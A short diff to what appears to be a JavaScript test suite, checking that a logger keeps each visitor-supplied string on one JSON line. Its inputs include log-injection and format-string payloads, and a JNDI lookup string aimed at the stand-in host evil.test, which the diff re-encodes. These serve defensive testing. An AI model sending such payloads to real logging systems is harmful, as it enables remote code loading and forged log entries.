@@ -41,7 +41,7 @@ test('whatever a visitor sends, a line of the log stays one line of JSON', async
     '\\u000a\\',
     '\u0080\u0085\u009b31m',
     `%e2%80%a8${forged}`,
-    '${jndi:ldap://evil.test/a}',
+    '$\u007bjndi:ldap://evil.test/a}',
     '%s%d%j%o',
   ];
   try {
